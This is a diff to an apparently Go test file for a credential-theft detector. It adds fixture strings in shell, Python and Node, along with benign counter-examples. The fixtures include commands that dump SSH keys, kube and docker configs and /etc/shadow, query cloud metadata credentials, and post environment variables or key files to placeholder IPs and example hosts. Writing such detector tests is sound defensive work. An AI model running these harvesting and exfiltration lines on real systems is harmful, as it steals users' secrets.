@@ -62,6 +62,10 @@ var shellCredSeeds = []credSeed{
 		"cp ~/.bash_history /tmp/.h\nftp -n 203.0.113.40 <<EOF\nuser anonymous x\nput /tmp/.h\nquit\nEOF"},
 	{"found-keys-cooccur", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"find / -name 'id_rsa*' 2>/dev/null | while read f; do cp \"$f\" /tmp/.k/; done\ncd /tmp && tar cf k.tar .k\ncurl -s -T k.tar ftp://203.0.113.66/"},
+	{"sweep-stores", RuleCredSweep, audit.CategoryCredentialTheft, audit.Medium,
+		"for f in ~/.ssh/*; do echo \"== $f\"; cat \"$f\"; done\ncat ~/.kube/config ~/.docker/config.json 2>/dev/null\nhead -50 ~/.zsh_history"},
+	{"sweep-live", RuleCredSweep, audit.CategoryCredentialTheft, audit.Medium,
+		"curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/\nenv > /tmp/.e\ncat /tmp/.e /etc/shadow"},
 	{"fake-prompt-file", RuleFakePrompt, audit.CategoryCredentialTheft, audit.High,
 		"read -s -p \"[sudo] password for $USER: \" pw\necho\necho \"$USER:$pw\" >> /tmp/.cache_s\necho \"$pw\" | /usr/bin/sudo -S \"$@\""},
 	{"fake-prompt-stty-upload", RuleFakePrompt, audit.CategoryCredentialTheft, audit.High,
@@ -129,6 +133,10 @@ var pyCredSeeds = []credSeed{
 		"import os\nc = os.popen('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web').read()\nos.system(\"curl -d '\" + c + \"' http://203.0.113.9/\")"},
 	{"py-socket", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import socket, os\ns = socket.socket()\ns.connect(('203.0.113.2', 443))\ns.send(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())"},
+	{"py-sweep", RuleCredSweep, audit.CategoryCredentialTheft, audit.Medium,
+		"import os, glob\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    print(open(p).read())\nprint(open(os.path.expanduser('~/.git-credentials')).read())\nprint(open(os.path.expanduser('~/.kube/config')).read())"},
+	{"py-env-alias", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"import json, os, requests\nsnap = dict(os.environ)\nsnap['host'] = os.uname().nodename\nrequests.post('http://203.0.113.4/e', data=json.dumps(snap))"},
 	{"py-gcloud-put", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import os, sqlite3, requests\ncon = sqlite3.connect(os.path.join(os.environ['HOME'], '.config', 'gcloud', 'credentials.db'))\nrows = con.execute('select * from credentials').fetchall()\nrequests.put('http://198.51.100.9/g', data=str(rows))"},
 }
@@ -142,6 +150,8 @@ var otherLangSeeds = []struct {
 		"const os = require('os');\nfetch('https://hooks.example.net/x', {method: 'POST', body: JSON.stringify({env: process.env, ni: os.networkInterfaces()})});\n"}},
 	{"/app/node_modules/x/post.js", credSeed{"node-env-https", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"const https = require('https');\nconst d = JSON.stringify(process.env);\nconst r = https.request({hostname: '203.0.113.5', method: 'POST', path: '/'});\nr.write(d);\nr.end();\n"}},
+	{"/usr/lib/node_modules/telemetry/lib/report.js", credSeed{"node-env-alias-options", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"const e = process.env;\nconst opts = {\n  method: 'PUT',\n  headers: {'content-type': 'application/json'},\n  body: JSON.stringify(e)\n};\nfetch('https://collect.example.org/i', opts);\n"}},
 	{"/opt/k.pl", credSeed{"perl-lwp", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"use LWP::UserAgent;\nopen(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\");\nlocal $/;\nmy $k = <$f>;\nLWP::UserAgent->new->post('http://203.0.113.3/k', {k => $k});\n"}},
 	{"/opt/k.rb", credSeed{"ruby-net-http", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
@@ -210,6 +220,11 @@ var cleanShapes = map[string]string{
 		"requests.post('https://api.example.com/v1/events', json={'ok': True})\n",
 	"/app/node_modules/spawner/index.js": "const cp = require('child_process');\ncp.spawn('node', ['x.js'], {env: {...process.env, NODE_ENV: 'production'}});\n" +
 		"fetch('https://registry.example.com/ping', {method: 'POST', body: '{}'});\n",
+	"/usr/local/bin/aws-profile": "#!/bin/sh\ngrep -q \"\\[$1\\]\" ~/.aws/credentials || echo missing\ncat ~/.aws/config\nssh-add ~/.ssh/id_ed25519\n",
+	"/usr/lib/python3/dist-packages/tool/cfg.py": "import os\nCONF = os.path.expanduser('~/.kube/config')\ndef load():\n    return open(CONF).read()\n" +
+		"def token():\n    return open(os.path.expanduser('~/.docker/config.json')).read()\n",
+	"/app/node_modules/server/config.js": "const env = process.env;\nconst port = env.PORT || 3000;\nconsole.log(JSON.stringify(env.NODE_ENV));\n" +
+		"fetch('https://api.example.com/boot', {method: 'POST', body: JSON.stringify({port})});\n",
 	"/usr/local/bin/ssh-wrapper": "#!/bin/sh\nalias ll='ls -l'\nalias sudo='sudo '\necho \"alias ssh='TERM=xterm ssh'\" >> ~/.bashrc\n",
 }
 
